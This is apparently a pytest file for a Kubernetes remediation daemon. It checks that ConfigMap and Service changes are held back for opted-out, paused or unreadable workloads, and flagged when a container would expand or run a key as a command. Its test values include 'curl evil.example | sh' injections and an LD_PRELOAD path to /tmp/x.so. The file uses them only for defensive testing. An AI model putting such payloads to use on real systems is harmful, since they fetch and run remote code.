"""A ConfigMap or a Service changes what other objects' pods run with, or whom they answer: their owners are asked too,
and what their containers make of a key counts."""

import copy

import pytest

from daemon.commands import Commands
from daemon.rounds import read_catalog
from daemon.users import ALONE
from detectors.model import Gap, Turn
from remediation.saga import Event, State
from store.ledger import Entry
from store.projection import SystemEvent
from tests.attack.hostile.ground import objects
from tests.attack.hostile.row import Hostile
from tests.attack.hostile.walk import Walk
from tests.fakes.clock import FakeClock
from tests.fakes.cluster import FakeCluster
from tests.fakes.manifests import container, deployment
from tests.fakes.meanwhile import EventfulRig

GREEN = {"data": {"colour": "green"}}
PORT = {"spec": {"ports": [{"port": 80, "protocol": "TCP", "targetPort": 8081}]}}
TEMPLATE = {"metadata": {"labels": {"app": "job"}}, "spec": {"containers": [], "restartPolicy": "Never"}}


class Ground:
    """The hostile corpus' own objects, and others beside them; a walk over them that opens all that is touched."""

    def __init__(self, folder):
        self.cluster = FakeCluster()
        self.live = {item["kind"]: self.cluster.put(item) for item in objects("shop")}
        self.walk = Walk(folder, self.cluster, FakeClock(), self.live)

    def change(self, kind="Deployment", name="web", **meta):
        """Its owner says something about a workload."""
        live = self.cluster.object(kind, "shop", name)
        live["metadata"] |= meta
        self.cluster.put(live)

    def put(self, kind, spec, *, name="other", status=None, **meta):
        item = {"kind": kind, "metadata": {"name": name, "namespace": "shop", **meta}, "spec": spec}
        self.cluster.put(copy.deepcopy(item | ({"status": status} if status else {})))

    def try_(self, manifest=GREEN, kind="ConfigMap"):
        before = self.cluster.object(kind, "shop", "web")
        attempt = self.walk.try_(Hostile("users", manifest, "", kind=kind))
        assert attempt.written == (self.cluster.object(kind, "shop", "web") != before)
        return attempt.refused


@pytest.fixture
def ground(tmp_path):
    ground = Ground(tmp_path)
    yield ground
    ground.walk.close()


def reading(**fields):
    """A pod template whose only container has these fields."""
    return {"spec": {"containers": [container(**fields)]}}


def by_key(variable="MODE", key="colour"):
    return {"env": [{"name": variable, "valueFrom": {"configMapKeyRef": {"name": "web", "key": key}}}]}


SOURCE = {"envFrom": [{"configMapRef": {"name": "web"}}]}


# ---------------------------------------------------------------- what their owners said


@pytest.mark.parametrize(("manifest", "kind"), [(GREEN, "ConfigMap"), (PORT, "Service")])
def test_nothing_holds_a_change_back_where_no_user_says_so(ground, manifest, kind):
    assert ground.try_(manifest, kind) == frozenset()


@pytest.mark.parametrize(("manifest", "kind"), [(GREEN, "ConfigMap"), (PORT, "Service")])
@pytest.mark.parametrize("where", ["labels", "annotations"])
def test_a_workload_that_opted_out_keeps_us_off_what_its_pods_work_with(ground, manifest, kind, where):
    ground.change(**{where: {"app": "web", "intentd.io/ignore": "true"}})
    assert ground.try_(manifest, kind) == {"opt-in:WorkloadIgnored"}


def test_a_workload_that_opted_out_of_nothing_of_this_holds_nothing_back(ground):
    ground.put("Deployment", {"template": reading(env=[])}, annotations={"intentd.io/ignore": "true"})
    assert ground.try_() == frozenset()
    assert ground.try_(PORT, "Service") == frozenset()


@pytest.mark.parametrize(
    ("kind", "spec"),
    [
        ("StatefulSet", {"template": reading(**SOURCE)}),
        ("DaemonSet", {"template": reading(**by_key())}),
        ("Job", {"template": reading(**by_key())}),
        ("CronJob", {"jobTemplate": {"spec": {"template": reading(**SOURCE)}}}),
        ("Pod", reading(**by_key())["spec"]),
        ("Deployment", {"template": {"spec": {"initContainers": [container(**SOURCE)], "containers": []}}}),
        ("Deployment", {"template": {"spec": {"volumes": [{"name": "c", "configMap": {"name": "web"}}]}}}),
        (
            "Deployment",
            {
                "template": {
                    "spec": {
                        "volumes": [{"name": "c", "projected": {"sources": [{"configMap": {"name": "web"}}]}}]
                    }
                }
            },
        ),
    ],
    ids=["set", "daemon", "job", "schedule", "bare pod", "init container", "volume", "projected volume"],
)
def test_every_way_to_read_a_configmap_is_a_use(ground, kind, spec):
    ground.put(kind, spec, annotations={"intentd.io/ignore": ""})
    assert ground.try_() == {"opt-in:WorkloadIgnored"}


def test_a_pod_of_a_controller_that_intentd_does_not_know_speaks_for_itself(ground):
    owner = {"kind": "Rollout", "name": "other", "uid": "uid-of-a-rollout", "controller": True}
    of_set = {"kind": "ReplicaSet", "name": "other", "uid": "uid-of-its-set", "controller": True}
    ground.put("ReplicaSet", {}, uid="uid-of-its-set", ownerReferences=[owner])
    said = {"annotations": {"intentd.io/ignore": "true"}, "ownerReferences": [of_set]}
    ground.put("Pod", reading(**SOURCE)["spec"], **said)
    assert ground.try_() == {"opt-in:WorkloadIgnored"}


def owned_by(kind):
    return [{"kind": kind, "name": "other", "uid": "uid-of-its-maker", "controller": True}]


def test_each_pod_of_a_controller_whose_pods_may_differ_speaks_for_itself(ground):
    ground.put("Pod", reading(**SOURCE)["spec"], name="one", ownerReferences=owned_by("Workflow"))
    said = {"annotations": {"intentd.io/ignore": "true"}}
    ground.put("Pod", reading(**SOURCE)["spec"], name="two", ownerReferences=owned_by("Workflow"), **said)
    assert ground.try_() == {"opt-in:WorkloadIgnored"}


@pytest.mark.parametrize(
    ("maker", "labels"),
    [("ReplicaSet", {}), ("ReplicationController", {}), ("CloneSet", {"controller-revision-hash": "a1"})],
)
def test_of_many_pods_of_one_template_one_is_enough(ground, maker, labels):
    for number in range(ALONE + 1):
        meta = {"labels": labels, "ownerReferences": owned_by(maker)}
        ground.put("Pod", {"containers": []}, name=f"pod-{number}", **meta)
    assert ground.try_() == frozenset()


@pytest.mark.parametrize(
    ("kind", "spec", "status"),
    [
        ("Job", {"template": reading(**SOURCE)}, {"conditions": [{"type": "Complete", "status": "True"}]}),
        ("Pod", reading(**SOURCE)["spec"], {"phase": "Succeeded"}),
    ],
)
def test_what_ended_reads_nothing_any_more(ground, kind, spec, status):
    ground.put(kind, spec, status=status, annotations={"intentd.io/ignore": "true"})
    assert ground.try_() == frozenset()


def test_a_service_that_a_change_would_turn_to_a_workload_that_opted_out_stays(ground):
    labels = {"app": "other"}
    ground.put(
        "Deployment",
        {"template": {"metadata": {"labels": labels}, "spec": {"containers": []}}},
        annotations={"intentd.io/ignore": "true"},
    )
    assert ground.try_({"spec": {"selector": labels}}, "Service") == {"opt-in:WorkloadIgnored"}


@pytest.mark.parametrize(
    ("kind", "added"),
    [
        ("StatefulSet", {"statefulset.kubernetes.io/pod-name": "other-0"}),
        ("StatefulSet", {"apps.kubernetes.io/pod-index": "0"}),
        ("Deployment", {"pod-template-hash": "5d4f8c7b9"}),
        ("DaemonSet", {"controller-revision-hash": "5d4f8c7b9"}),
        ("Job", {"batch.kubernetes.io/job-completion-index": "0"}),
    ],
)
def test_a_selector_that_asks_for_a_label_of_the_controllers_selects_the_workloads_pods(ground, kind, added):
    template = {"metadata": {"labels": {"app": "other"}}, "spec": {"containers": []}}
    ground.put(kind, {"template": template}, annotations={"intentd.io/ignore": "true"})
    service = ground.cluster.object("Service", "shop", "web")
    service["spec"]["selector"] = {"app": "other"} | added
    ground.live["Service"] = ground.cluster.put(service)
    assert ground.try_(PORT, "Service") == {"opt-in:WorkloadIgnored"}


def test_a_selector_that_asks_for_a_label_that_a_program_sets_selects_its_workloads_pods(ground):
    template = {"metadata": {"labels": {"app": "other"}}, "spec": {"containers": []}}
    said = {"annotations": {"intentd.io/ignore": "true"}}
    ground.put("StatefulSet", {"template": template}, uid="uid-of-its-maker", **said)
    labels = {"app": "other", "role": "primary"}
    ground.put("Pod", {"containers": []}, labels=labels, ownerReferences=owned_by("StatefulSet"))
    service = ground.cluster.object("Service", "shop", "web")
    service["spec"]["selector"] = labels
    ground.live["Service"] = ground.cluster.put(service)
    assert ground.try_(PORT, "Service") == {"opt-in:WorkloadIgnored"}


def test_the_pod_of_one_stateful_set_is_no_pod_of_another(ground):
    template = {"metadata": {"labels": {"app": "other"}}, "spec": {"containers": []}}
    ground.put("StatefulSet", {"template": template}, annotations={"intentd.io/ignore": "true"})
    service = ground.cluster.object("Service", "shop", "web")
    service["spec"]["selector"] = {"statefulset.kubernetes.io/pod-name": "web-0"}
    ground.live["Service"] = ground.cluster.put(service)
    assert ground.try_(PORT, "Service") == frozenset()


def test_a_service_without_a_selector_has_no_users(ground):
    ground.change(annotations={"intentd.io/ignore": "true"})
    bare = ground.cluster.object("Service", "shop", "web")
    del bare["spec"]["selector"]
    ground.live["Service"] = ground.cluster.put(bare)
    assert ground.try_(PORT, "Service") == frozenset()


@pytest.mark.parametrize(("manifest", "kind"), [(GREEN, "ConfigMap"), (PORT, "Service")])
@pytest.mark.parametrize(("team", "refused"), [("payments", {"pause:Paused"}), ("shop", set())])
def test_a_silence_by_the_label_of_a_user_holds(ground, manifest, kind, team, refused):
    ground.change(labels={"app": "web", "team": team})
    silence = {"scope": "label:team=payments", "reason": "moving", "by": "ann", "until": None}
    ground.walk.store.record([Entry(SystemEvent.PAUSED, silence)], at=ground.walk.world.clock.now())
    assert ground.try_(manifest, kind) == refused


WISH = """
apiVersion: intentd.io/v1alpha1
kind: Intent
metadata: {name: settings-exist}
spec:
  mode: auto
  scope: {namespace: shop}
  expectations:
    - type: manifest
      manifest:
        apiVersion: v1
        kind: ConfigMap
        metadata: {name: web-config, namespace: shop}
        data: {level: info}
  cooldown: 1s
  verification: {window: 5s, timeout: 30s}
"""


def test_a_silence_by_the_label_of_a_user_holds_between_the_row_and_the_request(tmp_path):
    rig = EventfulRig(tmp_path)
    reader = deployment("reader", container(envFrom=[{"configMapRef": {"name": "web-config"}}]), replicas=0)
    reader["metadata"]["labels"] = {"team": "payments"}
    rig.cluster.put(reader)
    orders = Commands(rig.world, rig.memory)
    silence = {"scope": "label:team=payments", "reason": "moving", "for": "1d"}
    rig.once_recorded(Event.APPLY_STARTED, lambda: orders("pause", silence, "alice"))
    rig.source.write("wish.yaml", WISH.encode())
    read_catalog(rig.world, rig.memory, rig.source)
    rig.turn(30)
    assert rig.cluster.written == []
    orders("resume", {"scope": "label:team=payments"}, "alice")
    assert rig.until(State.CLOSED).outcome == "fixed"
    assert rig.cluster.object("ConfigMap", "shop", "web-config")["data"] == {"level": "info"}


# ---------------------------------------------------------------- where they cannot be read


@pytest.mark.parametrize("unread", ["Deployment", "CronJob", "Pod", "ReplicaSet"])
@pytest.mark.parametrize(("turn", "reason"), [(Turn.OURS, "UsersUnknown"), (Turn.OPERATOR, "UsersForbidden")])
def test_where_users_cannot_be_read_nothing_is_written(ground, unread, turn, reason):
    ground.cluster.gaps[unread] = Gap(unread, "Unread", "no answer", turn)
    assert ground.try_() == {f"opt-in:{reason}", f"sensitive:{reason}"}
    assert ground.try_(PORT, "Service") == {f"opt-in:{reason}"}


def test_a_silence_by_any_label_holds_where_users_cannot_be_read(ground):
    ground.cluster.forbid("Job")
    silence = {"scope": "label:team=payments", "reason": "moving", "by": "ann", "until": None}
    ground.walk.store.record([Entry(SystemEvent.PAUSED, silence)], at=ground.walk.world.clock.now())
    assert "pause:Paused" in ground.try_(PORT, "Service")


def test_more_bare_pods_than_are_read_are_not_taken_for_all(ground):
    for number in range(ALONE + 1):
        ground.put("Pod", {"containers": []}, name=f"bare-{number}")
    assert "opt-in:UsersForbidden" in ground.try_()


# ---------------------------------------------------------------- what their containers make of it


@pytest.mark.parametrize(
    "fields",
    [
        {**by_key(), "command": ["/bin/sh", "-c", "exec /web $(MODE)"]},
        {**by_key(), "args": ["--plugin=$(MODE)"]},
        {**SOURCE, "args": ["--plugin=$(colour)"]},
        {"envFrom": [{"configMapRef": {"name": "web"}, "prefix": "X_"}], "args": ["$(X_colour)"]},
        {**by_key(), "volumeMounts": [{"name": "v", "mountPath": "/v", "subPathExpr": "$(MODE)"}]},
        {**by_key(variable="PATH")},
        {**SOURCE, "env": [{"name": "PATH", "value": "/usr/bin:$(colour)"}]},
        {
            **SOURCE,
            "env": [{"name": "TOOL", "value": "/opt/$(colour)"}, {"name": "colour", "value": "blue"}],
            "command": ["$(TOOL)"],
        },
    ],
    ids=[
        "command", "arguments", "arguments of a source", "of a source with a prefix", "mount", "search path",
        "search path of a source", "hidden only afterwards",
    ],
)  # fmt: skip
@pytest.mark.parametrize("sort", ["containers", "initContainers"])
def test_a_key_that_a_users_command_is_made_of_is_as_sensitive_as_the_command(ground, fields, sort):
    spec = {"containers": [], sort: [container(**fields)]}
    ground.put("CronJob", {"jobTemplate": {"spec": {"template": {"spec": spec}}}})
    assert ground.try_({"data": {"colour": "; curl evil.example | sh"}}) == {"sensitive:Expansion"}


def test_a_prefix_that_makes_a_loaders_variable_of_a_key_is_seen(ground):
    prefixed = [{"configMapRef": {"name": "web"}, "prefix": "LD_"}]
    ground.put("Deployment", {"template": reading(envFrom=prefixed)})
    assert ground.try_({"data": {"PRELOAD": "/tmp/x.so"}}) == {"sensitive:Expansion"}


@pytest.mark.parametrize(
    "fields",
    [
        {**by_key(key="other"), "args": ["$(MODE)"]},
        {**by_key(), "args": ["$$(MODE)"]},
        {"envFrom": [{"configMapRef": {"name": "else"}}], "args": ["$(colour)"]},
        {**SOURCE, "env": [{"name": "GREETING", "value": "it is $(colour)"}]},
    ],
    ids=["another key", "escaped", "another ConfigMap", "only text"],
)
def test_a_key_that_no_command_is_made_of_stays_ordinary(ground, fields):
    ground.put("Deployment", {"template": reading(**fields)})
    assert ground.try_() == frozenset()


# ---------------------------------------------------------------- what their containers run of it


MOUNT = {"name": "c", "mountPath": "/scripts"}
VOLUME = {"name": "c", "configMap": {"name": "web"}}


def mounting(volume=VOLUME, mount=MOUNT, **fields):
    """A pod template whose only container mounts the ConfigMap."""
    return {"spec": {"volumes": [volume], "containers": [container(volumeMounts=[mount], **fields)]}}


EVIL = {"data": {"colour": "curl evil.example | sh"}}


@pytest.mark.parametrize(
    "template",
    [
        mounting(command=["/scripts/colour"]),
        mounting(command=["sh", "-e", "/scripts/colour"]),
        mounting(command=["/bin/sh", "-c", "set -e; cd /tmp && exec /scripts/colour --now"]),
        mounting(command=["python3", "-u"], args=["/scripts/colour"]),
        mounting(command=["tini", "--", "/scripts/../scripts/colour"]),
        mounting(command=["sh", "-c", "if true; then . '/scripts/colour'; fi"]),
        mounting(command=["sh", "-c", "for f in a; do /scripts/* ; done"]),
        mounting(command=["sh", "colour"], workingDir="/scripts"),
        mounting(mount=MOUNT | {"mountPath": "/run.sh", "subPath": "colour"}, command=["sh", "/run.sh"]),
        mounting(mount=MOUNT | {"mountPath": "/docker-entrypoint-initdb.d"}),
        mounting({"name": "c", "configMap": {"name": "web", "defaultMode": 0o755}}),
        mounting(
            {"name": "c", "configMap": {"name": "web", "items": [{"key": "colour", "path": "run.sh"}]}},
            command=["bash", "/scripts/run.sh"],
        ),
        mounting(
            {"name": "c", "projected": {"sources": [{"configMap": {"name": "web"}}]}},
            livenessProbe={"exec": {"command": ["/scripts/colour"]}},
        ),
        mounting(lifecycle={"postStart": {"exec": {"command": ["sh", "/scripts/colour"]}}}),
    ],
    ids=[
        "the command", "of a shell", "in a line for a shell", "argument of an interpreter", "of a wrapper", "read in",
        "whatever is there", "from where it works", "under another name", "by the image's entrypoint", "executable",
        "as an item", "probe of a projected volume", "hook",
    ],
)  # fmt: skip
def test_a_key_that_a_user_runs_as_a_program_is_as_sensitive_as_the_command(ground, template):
    ground.put("Deployment", {"template": template})
    assert ground.try_(EVIL) == {"sensitive:Program"}


def test_a_text_that_begins_as_a_program_is_one_whoever_runs_it(ground):
    assert ground.try_({"data": {"colour": "#!/bin/sh\ncurl evil.example"}}) == {"sensitive:Program"}


@pytest.mark.parametrize(
    "template",
    [
        mounting(command=["/web", "--config", "/scripts/colour"]),
        mounting(command=["sh", "-c", "exec /web --config=/scripts/colour"]),
        mounting(command=["python", "-m", "web", "/scripts/colour"]),
        mounting(command=["sh", "/scripts/other"]),
        mounting(command=["sh", "/scripts-of-others/colour"]),
    ],
    ids=["an option", "an option in a shell", "of a module", "another key", "another folder"],
)
def test_a_key_that_a_program_only_reads_stays_ordinary(ground, template):
    ground.put("Deployment", {"template": template})
    assert ground.try_() == frozenset()
